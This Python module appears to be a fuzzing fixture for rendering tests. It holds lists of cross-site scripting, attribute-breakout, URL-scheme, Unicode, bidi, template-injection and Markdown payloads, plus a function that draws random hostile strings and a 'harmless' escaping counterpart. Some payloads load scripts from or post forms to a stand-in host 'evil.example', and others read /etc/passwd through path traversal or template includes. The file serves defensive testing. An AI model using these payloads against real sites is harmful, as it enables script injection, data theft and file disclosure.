"""Hostile texts: what has broken pages elsewhere, by the context that each means to break out of.

`hostile_text` draws one, or glues several together. `harmless` writes the same text without what makes it hostile, one
character for another, so that a telegram keeps its shape: what the page of one has, the page of the other must have.
"""

import random

# What each would call if it ran; the test in the browser gives it a meaning.
CALL = "pwned(1)"

SCRIPT = [
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt\t>{CALL}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg/onload={CALL}>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</pre></td></table><script>{CALL}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><script>{CALL}</script></template>",
    "<iframe src=javascript:pwned(1)></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    "<object data=javascript:pwned(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>ok</button></form>",
]
ATTRIBUTE = [
    f'" onmouseover="{CALL}',
    f"' onfocus='{CALL}' autofocus '",
    f'"><img src=x onerror={CALL}>',
    f"'><svg onload={CALL}>",
    f"x onerror={CALL} ",
    f'" style="position:fixed" onclick={CALL} "',
    f"`onclick={CALL}`",
    '" href="javascript:pwned(1)',
    '" id="main',
    '"/><a name="par1',
    f'" accesskey=x onclick={CALL} x="',
]
STYLE = [
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><img src=//evil.example/x>",
    '<p style="background:url(//evil.example/x)">',
    "}body{background:url('javascript:pwned(1)')}",
    "<div style=width:expression(pwned(1))>",
    "<link rel=preload as=style href=//evil.example/>",
]
URL = [
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(1)",
    "java\tscript:pwned(1)",
    "\x01javascript:pwned(1)",
    "javascript&colon;pwned(1)",
    "&#106;avascript:pwned(1)",
    "data:text/html,<script>parent.pwned(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    'https://evil.example/"onclick="pwned(1)',
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "http://[::1",
]
ENTITY = [
    "&lt;script&gt;pwned(1)&lt;/script&gt;",
    "&#60;script&#62;pwned(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=pwned(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&#0;&#x1f;&#xd800;&#x110000;",
    "&bogus;&amp&lt&quot",
    "&NewLine;&Tab;&colon;&lpar;",
    "<!--",
    "-->",
    "--!>",
    "<!-- <script>pwned(1)</script> -->",
    "<![CDATA[<script>pwned(1)</script>]]>",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
]
UNICODE = [
    "\uff1cscript\uff1epwned(1)\uff1c/script\uff1e",
    "\u2039script\u203apwned(1)",
    "<\u017fcript>pwned(1)</\u017fcript>",
    "<\u0130mg src=x onerror=pwned(1)>",
    "\u0000<script>pwned(1)</script>",
    "<scr\u0000ipt>pwned(1)</script>",
    "\ufeff<script>pwned(1)</script>",
    "\u2028<script>pwned(1)</script>\u2029",
    "e\u0301\u0327\u0300" * 6,
    "\U000e0041\U000e0042",
    "\ufdd0\ufffe\U0001ffff",
    "\x7f\x80\x9f",
    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
    "\u200b\u200d\u2060\u00ad",
]
BIDI = [
    "\u202eLEVITCES TON",
    "\u202dabc",
    "\u202b\u05e9\u05dc\u05d5\u05dd",
    "\u2067\u0645\u0631\u062d\u0628\u0627",
    "\u2068x\u2069\u2069\u2069",
    "\u202c\u202c\u2069",
    "\u2066\u202e\u2067\u202dx",
    "\u05e9\u05dc\u05d5\u05dd 123",
    "\u200f\u061c\u0645\u0631\u062d\u0628\u0627 (456)",
    "\u202e</p><p>\u202c",
]
TEMPLATE = [
    "{{ 7*7 }}",
    "{{ frame.policy }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "{{",
    "%}",
    "{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ page.text|safe }}",
]
MARKDOWN = [
    "[x](javascript:pwned(1))",
    '[x](  JAVASCRIPT:pwned(1) "t")',
    "[x](&#106;avascript&colon;pwned(1))",
    "[x](java&Tab;script:pwned(1))",
    "[x](data:text/html,<script>pwned(1)</script>)",
    "[x][y]\n\n[y]: javascript:pwned(1)",
    "<javascript:pwned(1)>",
    "![x](https://evil.example/x.png)",
    '![x](x"onerror="pwned(1))',
    "[x](a){: onclick=pwned(1) style=color:red }",
    '# x {: onmouseover="pwned(1)" }',
    "**x{: id=main }**",
    "```{: onclick=pwned(1) }\n<script>pwned(1)</script>\n```",
    "    <script>pwned(1)</script>",
    "`<script>pwned(1)</script>`",
    '<a@b.example"onclick=pwned(1)>',
    "<div markdown=1 onclick=pwned(1)>x</div>",
    "[^1]\n\n[^1]: <img src=x onerror=pwned(1)>",
    "|a|b|\n|-|-|\n|<script>pwned(1)</script>|{{ 7*7 }}|",
]

KINDS = {
    "script": SCRIPT,
    "attribute": ATTRIBUTE,
    "style": STYLE,
    "url": URL,
    "entity": ENTITY,
    "unicode": UNICODE,
    "bidi": BIDI,
    "template": TEMPLATE,
    "markdown": MARKDOWN,
}
VECTORS = [vector for vectors in KINDS.values() for vector in vectors]

# For each character that a page must not take literally, one that it may; to a telegram they mean the same.
_HARMLESS = str.maketrans({"<": "^", ">": "^", "&": "^", '"': "'", "{": "^", "}": "^", "`": "^"})


def harmless(text: str) -> str:
    """The same text with its signs blunted."""
    return text.translate(_HARMLESS)


def hostile_text(draw: random.Random, *, lines: bool = False) -> str:
    """A hostile text; on one line unless several are asked for."""
    pieces = [draw.choice(VECTORS) for _ in range(draw.choice([1, 1, 1, 2, 3]))]
    if draw.random() < 0.2:
        pieces = [piece.upper() for piece in pieces]
    if draw.random() < 0.3:
        pieces.insert(
            draw.randrange(len(pieces) + 1), draw.choice(["THE ROAD", "08 ZENDA 12", "(C)", "1.", "A."])
        )
    text = draw.choice(["", " "]).join(pieces)
    return text if lines else " ".join(text.split("\n"))
